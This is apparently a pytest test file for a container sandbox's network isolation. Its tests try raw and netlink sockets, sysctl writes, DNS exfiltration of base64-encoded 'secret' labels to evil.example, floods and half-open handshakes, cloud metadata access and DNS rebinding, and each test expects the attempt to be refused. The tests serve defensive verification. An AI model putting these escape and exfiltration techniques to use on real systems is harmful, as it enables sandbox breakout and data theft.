"""Ways out of a container with a network, each of which has to fail, and ways to hurt who serves it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from daemons import PATIENCE
from networked import add_policy
from world import DNS, METADATA, WWW

if TYPE_CHECKING:
    from collections.abc import Callable

    from daemons import Daemon
    from world import World

    from sandboxd.models import Invocation

    Python = Callable[..., Invocation]


def said(call: Invocation) -> str:
    """What a call printed."""
    assert call.stdout is not None, call.outcome
    assert call.stderr is not None
    return (call.stdout.text or "") + (call.stderr.text or "")


HEAD = """
import array, ctypes, os, socket, struct, threading, time
def name(make):
    try:
        return make() or 'done'
    except Exception as error:
        return type(error).__name__ + ' ' + str(getattr(error, 'errno', ''))
"""


@pytest.mark.parametrize(
    "code",
    [
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)",
        "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)",  # nftables, the log
        "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)",
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)",  # SCTP
        "socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)",
        "socket.socket().setsockopt(socket.SOL_IP, 19, 1)",  # IP_TRANSPARENT
        "socket.socket().bind(('0.0.0.0', 1))",  # where connections are taken
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('127.0.0.1', 53))",
        "open('/proc/sys/net/ipv4/ip_unprivileged_port_start', 'w').write('0')",
        "open('/proc/sys/net/ipv4/ping_group_range', 'w').write('0 65535')",
    ],
)
def test_no_other_socket_and_no_privilege(python: Python, code: str) -> None:
    call = python(f"{HEAD}\nprint(name(lambda: {code}))")
    assert said(call).split()[0] in {"PermissionError", "OSError"}, said(call)


def test_routes_and_filter_cannot_be_changed(python: Python) -> None:
    code = f"""{HEAD}
LINK = struct.pack('IHHII', 32, 16, 5, 1, 0) + struct.pack('BxHiII', 0, 0, 1, 0, 1)  # lo down
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
s.send(LINK)
print(struct.unpack('i', s.recv(100)[16:20])[0])
"""
    assert said(python(code)) == "-1\n"


def test_the_address_of_a_name_is_bound_by_the_tool_to_no_avail(world: World, python: Python) -> None:
    """All addresses are the namespace's own, so a tool may bind them: what it gets is its own business."""
    code = f"""{HEAD}
address = socket.gethostbyname('www.example.test')
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
print(name(lambda: server.bind((address, 8443)))); server.listen()
print(name(lambda: socket.create_connection((address, 8443), timeout=2)))
client = socket.create_connection((address, 80), timeout=5)
client.sendall(b'GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n')
print(client.recv(12))
"""
    world.reached.clear()
    lines = said(python(code)).splitlines()
    assert lines[1].startswith("ConnectionRefusedError")
    assert lines[2] == "b'HTTP/1.1 200'"
    assert world.reached == [(WWW, 80)]


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_dns_carries_nothing_out(world: World, python: Python, transport: str) -> None:
    code = f"""{HEAD}
def ask(server, name, kind):
    q = b'\\1\\2\\1\\0\\0\\1' + bytes(6)
    q += b''.join(bytes((len(part),)) + part for part in name.split(b'.')) + b'\\0'
    q += struct.pack('>HH', kind, 1)
    if {transport!r} == 'tcp':
        s = socket.create_connection((server, 53), timeout=5)
        s.sendall(struct.pack('>H', len(q)) + q)
        return s.recv(600)[2:]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, (server, 53)); data, peer = s.recvfrom(600)
    assert peer == (server, 53), peer
    return data
for server in ('127.0.0.1', '8.8.8.8', {DNS!r}, '10.0.0.53'):
    for name in (b'c2VjcmV0.evil.example', b'c2VjcmV0.example.test', b'c2VjcmV0.www.example.test'):
        for kind in (1, 16, 28, 255, 65):
            print(ask(server, name, kind)[3] & 15, end=' ')
    print(ask(server, b'www.example.test', 16)[3] & 15, ask(server, b'one.api.test', 1)[3] & 15)
"""
    world.asked.clear()
    call = python(code)
    assert said(call) == ("3 " * 15 + "0 0\n") * 4
    assert world.asked == []  # not even of allowed names, which nothing has connected to
    assert sum(denial.count for denial in call.denials) == 60


def test_many_connections_are_served_or_refused_and_none_hangs(python: Python) -> None:
    code = f"""{HEAD}
from collections import Counter
found = Counter()
def one():
    try:
        with socket.create_connection(('echo.example.test', 7), timeout=30) as s:
            s.sendall(b'x'); found[s.recv(1)] += 1
    except OSError as error:
        found[type(error).__name__] += 1
for _ in range(6):
    threads = [threading.Thread(target=one) for _ in range(40)]
    [t.start() for t in threads]; [t.join() for t in threads]
print(found)
"""
    assert said(python(code)) == "Counter({b'x': 240})\n"


def test_connections_that_say_nothing_and_halves_of_greetings_end_with_the_call(
    networked: Daemon, python: Python
) -> None:
    code = f"""{HEAD}
held = []
for _ in range(200):
    s = socket.create_connection(('www.example.test', 443), timeout=10)
    s.sendall(b'\\x16\\3\\1\\2\\0\\1'); held.append(s)
print(len(held))
"""
    assert said(python(code)) == "200\n"
    assert said(python("print('next')")) == "next\n"
    del networked


def test_a_flood_of_refusals_is_bounded_and_counted(networked: Daemon, python: Python) -> None:
    code = f"""{HEAD}
for port in range(1000, 3000):
    try: socket.create_connection((f'10.{{port % 200}}.1.1', port), timeout=5)
    except OSError: pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
q = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b'\\5' + b'%05d' + b'\\4evil\\0\\0\\1\\0\\1'
for n in range(20000):
    s.sendto(q % n, ('127.0.0.1', 53))
time.sleep(1)
with socket.create_connection(('www.example.test', 80), timeout=30): pass
print('done')
"""
    call = python(code)
    assert said(call) == "done\n"
    assert len(call.denials) <= 260
    assert sum(denial.count for denial in call.denials) > 300
    seen = [event for event in networked.client().events(call.id) if event.network is not None]
    assert len(seen) <= 1001
    assert seen[-1].network.name == "www.example.test"  # type: ignore[union-attr]
    assert said(python("print('next')")) == "next\n"


def test_the_hosts_abstract_sockets_and_the_daemons_are_not_there(networked: Daemon, python: Python) -> None:
    import socket  # noqa: PLC0415

    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0sandboxd-test-abstract")
        server.listen()
        code = f"""{HEAD}
s = socket.socket(socket.AF_UNIX)
print(name(lambda: s.connect(chr(0) + 'sandboxd-test-abstract')))
print(name(lambda: s.connect({str(networked.socket)!r})))
"""
        assert said(python(code)) == "ConnectionRefusedError 111\nFileNotFoundError 2\n"


def test_another_containers_loopback_is_its_own(networked: Daemon, python: Python) -> None:
    client = networked.client()
    code = (
        "import socket, sys; s = socket.create_server(('', 8099)); print('up', flush=True); sys.stdin.read()"
    )
    call = client.start(["python3", "-c", code], policy="net", stdin="stream")
    try:
        other = python(
            f"{HEAD}\nprint(name(lambda: socket.create_connection(('127.0.0.1', 8099), timeout=5)))"
        )
        assert said(other) == "ConnectionRefusedError 111\n"
    finally:
        client.write_stdin(call.id, b"")
        client.wait(call.id, timeout=30 * PATIENCE)


def test_a_redirect_to_the_inside_is_refused(world: World, python: Python) -> None:
    code = f"""{HEAD}
print(name(lambda: socket.create_connection(('{METADATA}', 80), timeout=5)))
print(name(lambda: socket.create_connection(('instance-data.example.test', 80), timeout=5)))
"""
    world.records["instance-data.example.test"] = [METADATA]
    call = python(code)
    assert said(call).split("\n")[0].startswith("ConnectionRefusedError")
    assert "gaierror" in said(call)


def test_a_name_that_changes_is_looked_up_and_checked_together(
    networked: Daemon, world: World, python: Python
) -> None:
    """Rebinding: the first answer is public, later ones are not; each connection goes where its check was."""
    add_policy(networked, "rebind", RULES.format(host="flip.example.test", ports="[80]"))
    answers = iter([WWW, METADATA] * 50)
    original = world.answer

    def flipping(question: bytes) -> bytes:
        world.records["flip.example.test"] = [next(answers)]
        return original(question)

    world.answer = flipping  # type: ignore[method-assign]
    world.serve(METADATA, 80)
    world.reached.clear()
    try:
        code = f"""{HEAD}
for _ in range(10):
    try:
        s = socket.create_connection(('flip.example.test', 80), timeout=10)
        s.sendall(b'GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'); print(len(s.recv(12)))
    except OSError as error: print(type(error).__name__)
"""
        python(code, policy="rebind")
    finally:
        world.answer = original  # type: ignore[method-assign]
    assert (METADATA, 80) not in world.reached


RULES = """\
version: 1
name: rebind
extends: python
warm: !remove
network:
  allow: [{{host: {host}, ports: {ports}}}]
"""
